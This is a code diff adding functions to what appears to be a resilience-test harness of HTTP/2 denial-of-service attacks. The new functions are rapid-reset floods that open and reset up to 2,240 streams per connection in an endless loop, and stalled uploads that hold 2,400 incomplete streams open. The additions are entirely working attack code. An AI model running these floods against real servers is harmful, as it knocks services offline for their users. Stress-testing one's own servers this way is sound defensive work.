@@ -88,6 +88,43 @@ def resets(target):
     end_each_call(target, RST_STREAM, 8)
 
 
+def reset_and_leave(target, calls):
+    """One connection of so many calls that are begun and reset, and the next one at once."""
+    block, end = headers(), struct.pack(">I", 8)
+    burst = b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, end)
+                     for stream in range(1, 2 * calls, 2))
+    while True:
+        try:
+            connection = target.dial()
+            connection.send(burst)
+            connection.close()
+        except (Cut, OSError):
+            target.count(cuts=1)
+            time.sleep(0.001)
+
+
+def resets_and_leave_30(target):
+    """Connections of 30 calls that are reset at once, one connection after the other, without a token."""
+    identity.clear()
+    reset_and_leave(target, 30)
+
+
+def resets_and_leave_200(target):
+    """The same with 200 calls, and a token."""
+    reset_and_leave(target, 200)
+
+
+def resets_and_leave_900(target):
+    """The same with 900 calls, without a token."""
+    identity.clear()
+    reset_and_leave(target, 900)
+
+
+def resets_and_leave_2240(target):
+    """The same with 2,240 calls, and a token."""
+    reset_and_leave(target, 2240)
+
+
 @again
 def made_resets(target):
     """Calls that the server has to reset itself: a window update of zero for each (CVE-2025-8671)."""
@@ -260,6 +297,19 @@ def slow_headers(target):
     hold(target, 200, begin_headers, lambda connection: connection.send(frame(CONTINUATION, 0, 1)))
 
 
+def begin_calls(target):
+    """120 calls that lack their last byte."""
+    connection = target.dial()
+    for stream in range(1, 241, 2):
+        connection.send(frame(HEADERS, END_HEADERS, stream, headers()) + frame(DATA, 0, stream, TRANSPOSE_MESSAGE[:-1]))
+    return connection
+
+
+def stalled_uploads(target):
+    """2,400 calls that lack their last byte, on 20 connections, which stay open."""
+    hold(target, 20, begin_calls)
+
+
 def silent_connections(target):
     """300 connections that never say a word."""
     hold(target, 300, Bare)
@@ -298,9 +348,10 @@ def metrics_clients(target):
 
 
 ATTACKS = {attack.__name__: attack for attack in (
-    continuations, tiny_fields, huge_string, indexed_fields, resets, made_resets, pings, settings, priorities,
+    continuations, tiny_fields, huge_string, indexed_fields, resets, resets_and_leave_30, resets_and_leave_200, resets_and_leave_900,
+    resets_and_leave_2240, made_resets, pings, settings, priorities,
     unknown_frames, window_updates, empty_data, garbage, gzip_bombs, unbounded_calls, forged_lines, unread_results, dripping_windows,
-    dripping_messages, slow_headers, silent_connections, idle_connections, connect_and_leave, metrics_clients)}
+    dripping_messages, slow_headers, stalled_uploads, silent_connections, idle_connections, connect_and_leave, metrics_clients)}
 
 
 def main():
